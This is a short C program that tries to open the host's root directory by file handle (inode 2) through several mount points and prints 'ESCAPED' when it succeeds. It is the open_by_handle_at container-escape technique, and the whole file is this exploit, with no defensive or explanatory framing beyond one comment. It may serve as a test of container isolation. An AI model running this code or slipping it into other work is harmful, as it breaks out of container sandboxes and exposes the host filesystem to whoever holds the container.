// Opens the host's root folder by its number on the disk.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
int main(void) {
  struct {
    struct file_handle handle;
    unsigned char number[8];
  } root = {{8, 1}, {2}};
  const char* places[] = {"/", "/usr", "/tmp", "/dev/null"};
  for (int p = 0; p < 4; ++p) {
    const int place = open(places[p], O_RDONLY);
    if (place >= 0 && open_by_handle_at(place, &root.handle, O_RDONLY) >= 0)
      printf("ESCAPED: opened a folder by handle through %s\n", places[p]);
  }
  puts("stopped");
}
